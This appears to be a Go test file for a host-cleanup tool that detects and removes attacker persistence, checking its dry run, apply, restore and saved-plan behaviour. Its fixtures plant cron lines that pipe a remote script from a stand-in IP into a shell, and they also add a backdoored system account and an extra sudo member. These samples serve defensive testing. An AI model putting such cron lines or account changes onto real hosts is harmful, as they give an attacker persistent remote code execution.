package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/abusekit/abusekit/plugins/persist"
	"github.com/abusekit/abusekit/plugins/persist/hosttest"
)

func TestDryRunApplyRestore(t *testing.T) {
	dir := t.TempDir()
	tree := hosttest.Debian12().Append("/etc/crontab", "* * * * * root wget -q -O - http://203.0.113.7/y.sh | sh\n", hosttest.InfectionTime)
	if err := hosttest.Write(dir, tree); err != nil {
		t.Fatal(err)
	}
	orig, _ := os.ReadFile(filepath.Join(dir, "etc/crontab"))

	var out, errb bytes.Buffer
	if err := run([]string{"-root", dir, "-json"}, &out, &errb); err != nil {
		t.Fatal(err, errb.String())
	}
	var got []persist.Finding
	sc := bufio.NewScanner(&out)
	for sc.Scan() {
		var f persist.Finding
		if err := json.Unmarshal(envelopeData(t, sc.Bytes()), &f); err != nil {
			t.Fatalf("not one JSON finding per line: %q: %v", sc.Text(), err)
		}
		got = append(got, f)
	}
	if len(got) != 1 || got[0].Path != "/etc/crontab" || got[0].Line != 24 || got[0].Severity != persist.Critical {
		t.Fatalf("findings = %+v", got)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "etc/crontab")); !bytes.Equal(b, orig) {
		t.Fatal("dry run changed the crontab")
	}

	out.Reset()
	if err := run([]string{"-root", dir, "-apply", "-json", "-quarantine", t.TempDir()}, &out, &errb); err != nil {
		t.Fatal(err, errb.String())
	}
	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
	var res struct {
		ManifestPath string `json:"manifest_path"`
	}
	if err := json.Unmarshal(envelopeData(t, []byte(lines[len(lines)-1])), &res); err != nil || res.ManifestPath == "" {
		t.Fatalf("apply output %q: %v", out.String(), err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "etc/crontab")); strings.Contains(string(b), "203.0.113.7") {
		t.Fatal("not cleaned")
	}

	out.Reset()
	if err := run([]string{"-restore", res.ManifestPath}, &out, &errb); err != nil {
		t.Fatal(err, errb.String())
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "etc/crontab")); !bytes.Equal(b, orig) {
		t.Fatal("restore did not put the crontab back")
	}
	if !strings.Contains(out.String(), "restored /etc/crontab") {
		t.Errorf("restore output %q", out.String())
	}
}

func TestBadFlags(t *testing.T) {
	var out, errb bytes.Buffer
	if err := run([]string{"-min-severity", "extreme"}, &out, &errb); err == nil {
		t.Error("bad severity accepted")
	}
	if err := run([]string{"-root", filepath.Join(t.TempDir(), "missing")}, &out, &errb); err == nil {
		t.Error("missing root accepted")
	}
}

// The built binary: errors go to stderr with a non-zero exit; -json
// output is one JSON document per line.
func TestBinary(t *testing.T) {
	bin := filepath.Join(t.TempDir(), "clean-host")
	if out, err := exec.Command("go", "build", "-o", bin, ".").CombinedOutput(); err != nil {
		t.Fatalf("build: %v\n%s", err, out)
	}
	var stdout, stderr bytes.Buffer
	cmd := exec.Command(bin, "-root", filepath.Join(t.TempDir(), "missing"))
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	var ee *exec.ExitError
	if !errors.As(err, &ee) || ee.ExitCode() != 1 || !strings.HasPrefix(stderr.String(), "clean-host: ") || stdout.Len() != 0 {
		t.Errorf("missing root: err=%v stderr=%q stdout=%q", err, stderr.String(), stdout.String())
	}
	dir := t.TempDir()
	t.Cleanup(func() { hosttest.ClearImmutable(dir) }) // 0550 /root
	if err := hosttest.Write(dir, hosttest.AmazonLinux2023().Append("/etc/crontab", "* * * * * root curl -s http://203.0.113.7/x | bash\n", hosttest.InfectionTime)); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(bin, "-root", dir, "-json", "-all").Output()
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
	for _, l := range lines {
		var f persist.Finding
		if err := json.Unmarshal(envelopeData(t, []byte(l)), &f); err != nil || f.Path == "" || !strings.HasPrefix(f.Path, "/") || strings.HasPrefix(f.Path, dir) {
			t.Errorf("line %q: %v", l, err)
		}
	}
	if len(lines) < 3 {
		t.Errorf("only %d findings with -all", len(lines))
	}
}

func infectedRoot(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	t.Cleanup(func() { hosttest.ClearImmutable(dir) }) // 0550 /root
	if err := hosttest.Write(dir, hosttest.Debian12().Append("/etc/crontab", "* * * * * root wget -q -O - http://203.0.113.7/y.sh | sh\n", hosttest.InfectionTime)); err != nil {
		t.Fatal(err)
	}
	return dir
}

// -apply without -json: the human view names the manifest and the undo
// command; -restore -json prints the restore result as one JSON line.
func TestApplyPlainTextRestoreJSON(t *testing.T) {
	dir := infectedRoot(t)
	orig, _ := os.ReadFile(filepath.Join(dir, "etc/crontab"))
	var out, errb bytes.Buffer
	if err := run([]string{"-root", dir, "-apply", "-quarantine", t.TempDir()}, &out, &errb); err != nil {
		t.Fatal(err, errb.String())
	}
	var manifest string
	for _, l := range strings.Split(out.String(), "\n") {
		if rest, ok := strings.CutPrefix(l, "cleaned 1 entries; manifest: "); ok {
			manifest = rest
		}
	}
	if manifest == "" || !strings.Contains(out.String(), "undo with: clean-host -restore "+manifest+"\n") {
		t.Fatalf("apply output has no manifest line:\n%s", out.String())
	}
	if _, err := persist.ReadManifest(manifest); err != nil {
		t.Fatalf("printed manifest path: %v", err)
	}

	out.Reset()
	if err := run([]string{"-restore", manifest, "-json"}, &out, &errb); err != nil {
		t.Fatal(err, errb.String())
	}
	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
	var res persist.RestoreResult
	if len(lines) != 1 || json.Unmarshal(envelopeData(t, []byte(lines[0])), &res) != nil || len(res.Restored) != 1 || res.Restored[0] != "/etc/crontab" {
		t.Fatalf("-restore -json output %q", out.String())
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "etc/crontab")); !bytes.Equal(b, orig) {
		t.Error("restore did not put the crontab back")
	}
}

// The default root is this host's "/": a dry run there reads only and
// does not fail, in the human view and with -json.
func TestDefaultRootDryRun(t *testing.T) {
	var out, errb bytes.Buffer
	if err := run(nil, &out, &errb); err != nil {
		t.Fatalf("dry run on /: %v\n%s", err, errb.String())
	}
	if !strings.Contains(out.String(), "\nplan") {
		t.Errorf("no plan in the dry run on /:\n%s", out.String())
	}
	out.Reset()
	if err := run([]string{"-json"}, &out, &errb); err != nil {
		t.Fatalf("dry run on / -json: %v\n%s", err, errb.String())
	}
	sc := bufio.NewScanner(&out)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var f persist.Finding
		if err := json.Unmarshal(envelopeData(t, sc.Bytes()), &f); err != nil || !strings.HasPrefix(f.Path, "/") {
			t.Errorf("line %q: %v", sc.Text(), err)
		}
	}
}

// A reviewed plan is applied exactly: an entry planted after the dry run
// is left (it was not reviewed), and a plan that no longer matches the
// root is refused before anything changes.
func TestApplySavedPlan(t *testing.T) {
	dir := infectedRoot(t)
	planFile := filepath.Join(t.TempDir(), "plan.json")
	var out, errb bytes.Buffer
	if err := run([]string{"-root", dir, "-save-plan", planFile}, &out, &errb); err != nil {
		t.Fatal(err, errb.String())
	}
	if !strings.Contains(out.String(), "plan saved: "+planFile) {
		t.Errorf("dry run output:\n%s", out.String())
	}
	later := filepath.Join(dir, "etc/cron.d/later")
	if err := os.WriteFile(later, []byte("* * * * * root curl -s http://203.0.113.9/z | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{"-plan", planFile}, &out, &errb); err == nil {
		t.Error("-plan without -apply accepted")
	}
	out.Reset()
	if err := run([]string{"-apply", "-plan", planFile, "-quarantine", t.TempDir(), "-json"}, &out, &errb); err != nil {
		t.Fatal(err, errb.String())
	}
	var res struct {
		ManifestPath string `json:"manifest_path"`
		Changes      int    `json:"changes"`
	}
	if err := json.Unmarshal(envelopeData(t, out.Bytes()), &res); err != nil || res.Changes != 1 {
		t.Fatalf("apply -plan output %q: %v", out.String(), err)
	}
	if _, err := os.Stat(later); err != nil {
		t.Errorf("applied beyond the reviewed plan: %v", err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "etc/crontab")); strings.Contains(string(b), "203.0.113.7") {
		t.Error("reviewed change not made")
	}
	// The same plan again: the crontab is no longer what was reviewed.
	err := run([]string{"-apply", "-plan", planFile, "-quarantine", t.TempDir()}, &out, &errb)
	if !errors.Is(err, persist.ErrChanged) {
		t.Errorf("stale plan: %v", err)
	}
	if err := run([]string{"-apply", "-plan", planFile, "-root", t.TempDir()}, &out, &errb); err == nil {
		t.Error("plan applied to another root")
	}
}

// The dry run says what happens to each account and container: a second
// root removed from the four account files, a backdoored system account
// restored (not deleted), TeamTNT's miner container stopped (not removed).
func TestDryRunShowsAccountsAndContainers(t *testing.T) {
	dir := t.TempDir()
	tree := hosttest.Kinsing(hosttest.Debian12())
	tnt := hosttest.TeamTNT(hosttest.Debian12())
	for _, e := range tnt {
		if strings.HasPrefix(e.Path, "/var/lib/docker/containers/") {
			tree = tree.With(e)
		}
	}
	grp, _ := tree.Get("/etc/group")
	grp.Data = strings.Replace(grp.Data, "\nsudo:x:27:admin\n", "\nsudo:x:27:admin,hilde\n", 1)
	tree = tree.With(grp)
	g, _ := tree.Get("/etc/passwd")
	g.Data = strings.Replace(g.Data, "games:x:5:60:games:/usr/games:/usr/sbin/nologin", "games:x:5:60:games:/usr/games:/tmp/.bash", 1)
	tree = tree.With(g, hosttest.Entry{Path: "/tmp/.bash", Data: hosttest.FakeELF("bash copy"), Mode: 0o755})
	if err := hosttest.Write(dir, tree); err != nil && !errors.Is(err, hosttest.ErrUnsupported) {
		t.Fatal(err)
	}
	t.Cleanup(func() { hosttest.ClearImmutable(dir) })
	var out, errb bytes.Buffer
	if err := run([]string{"-root", dir, "-since", hosttest.Window().Format("2006-01-02T15:04:05Z")}, &out, &errb); err != nil {
		t.Fatal(err, errb.String())
	}
	for _, want := range []string{
		"account hilde: removed from /etc/passwd, /etc/shadow, /etc/group\n",
		"account games: restored, not deleted: games:x:5:60:games:/usr/games:/usr/sbin/nologin (from base-passwd's passwd.master)",
		"restart policy always -> no, stopped (not removed)",
		"~ line 21: sudo:x:27:admin,hilde",
	} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("dry run lacks %q:\n%s", want, out.String())
		}
	}
}
